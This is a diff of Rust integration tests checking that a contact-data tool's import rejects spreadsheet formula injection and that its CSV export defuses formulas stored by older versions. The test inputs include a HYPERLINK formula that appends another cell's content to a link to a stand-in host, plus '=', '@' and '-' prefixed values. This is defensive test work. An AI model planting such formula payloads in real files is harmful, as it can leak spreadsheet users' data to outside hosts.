@@ -472,3 +472,117 @@ fn mail_sent_unencrypted_to_another_host_is_warned_about_once_at_start() {
         assert!(!log.contains("unencrypted"), "{quiet}: {log}");
     }
 }
+
+#[test]
+fn an_import_refuses_text_a_spreadsheet_would_run_as_a_formula_and_names_its_place() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    with_data(dir.path(), &["import", &sample_file()]);
+    let (_, before, _) = with_data(dir.path(), &["export"]);
+
+    // A CSV as a spreadsheet writes it: the formula quoted, because it holds `;` and `"`.
+    // Line 3 is valid: phone numbers keep their `+`, text may hold `=`, `-` and `@` inside.
+    let header = "id;name;level;region;services;is_115;phone;mobile;fax;email;web;contact_form;hours;exceptions;closes_on_holidays;languages;mailbox;street;postcode;city";
+    let csv = dir.path().join("kontakte.csv");
+    std::fs::write(
+        &csv,
+        format!(
+            "{header}\n\
+             hb-formel;\"=HYPERLINK(\"\"https://example.invalid/?\"\"&A3;\"\"Hilfe\"\")\";first;040000000000;;nein;0421 1;;;;;;;;ja;;;;;\n\
+             hb-gut;Bürgeramt Bremen-Mitte (E-Mail @ Amt);first;040000000000;;nein;+49 421 361-0 [Zentrale];;;;;;;;ja;;;;;\n\
+             hb-adresse;Bürgeramt;first;040000000000;;nein;0421 2;;;;;;;;ja;;;\t=1+1;28195;Bremen\n"
+        ),
+    )
+    .expect("write csv");
+    let (code, _, stderr) = with_data(dir.path(), &["import", csv.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "{stderr}");
+    let file = csv.display();
+    assert!(
+        stderr.contains(&format!("{file} line 2, column name")),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains(&format!("{file} line 4, column street")),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("line 3"), "{stderr}");
+    assert!(stderr.contains("formula"), "{stderr}");
+    assert!(stderr.contains("2 problem(s)"), "{stderr}");
+
+    let json = dir.path().join("kontakte.json");
+    std::fs::write(
+        &json,
+        r#"{"contacts": [{"id": "hb-label", "name": "Bürgeramt", "level": "first",
+            "region": "040000000000",
+            "channels": [{"kind": "phone", "value": "+49 421 361-0", "label": "@Zentrale"}],
+            "exceptions": [{"date": "2026-12-24", "note": "-geschlossen"}]}]}"#,
+    )
+    .expect("write json");
+    let (code, _, stderr) = with_data(dir.path(), &["import", json.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "{stderr}");
+    for place in [
+        "contacts[0].channels[0].label",
+        "contacts[0].exceptions[0].note",
+    ] {
+        assert!(stderr.contains(place), "{place} missing in:\n{stderr}");
+    }
+    assert!(
+        !stderr.contains(".value"),
+        "the phone number is fine:\n{stderr}"
+    );
+
+    let (_, after, _) = with_data(dir.path(), &["export"]);
+    assert_eq!(after, before, "nothing was imported");
+}
+
+#[tokio::test]
+async fn a_csv_export_writes_formulas_stored_by_an_older_version_as_plain_text() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    with_data(dir.path(), &["import", &sample_file()]);
+    // What an older version let in: a region and a contact named with formulas.
+    let url = format!(
+        "sqlite:{}",
+        dir.path().join("anlaufstelle.sqlite").display()
+    );
+    let pool = sqlx::SqlitePool::connect(&url).await.expect("database");
+    sqlx::query("UPDATE regions SET name = '=HYPERLINK(\"https://example.invalid\";\"Bremen\")' WHERE ars = '040000000000'")
+        .execute(&pool)
+        .await
+        .expect("old region name");
+    let updated =
+        sqlx::query("UPDATE contacts SET name = '@SUMME(1;2)' WHERE id = 'hb-elterngeld'")
+            .execute(&pool)
+            .await
+            .expect("old contact name");
+    assert_eq!(updated.rows_affected(), 1, "the sample has this contact");
+    pool.close().await;
+
+    let (code, regions, stderr) = with_data(dir.path(), &["export", "--format", "regions-csv"]);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(
+        regions.contains(
+            "10;040000000000;\"'=HYPERLINK(\"\"https://example.invalid\"\";\"\"Bremen\"\")\";ja\n"
+        ),
+        "{regions}"
+    );
+    let (_, contacts, _) = with_data(dir.path(), &["export", "--format", "contacts-csv"]);
+    assert!(
+        contacts.contains("hb-elterngeld;\"'@SUMME(1;2)\";"),
+        "{contacts}"
+    );
+    assert!(
+        contacts.contains(";+49 421 9999 0100"),
+        "phones keep their +:\n{contacts}"
+    );
+
+    // Imported again, the quoted names are harmless text, and the export stays the same.
+    for (format, text) in [("regions-csv", &regions), ("contacts-csv", &contacts)] {
+        let file = dir.path().join(format!("{format}.csv"));
+        std::fs::write(&file, text).expect("write csv");
+        let (code, _, stderr) = with_data(dir.path(), &["import", file.to_str().expect("utf-8")]);
+        assert_eq!(code, 0, "{format}: {stderr}");
+        assert_eq!(
+            &with_data(dir.path(), &["export", "--format", format]).1,
+            text
+        );
+    }
+}
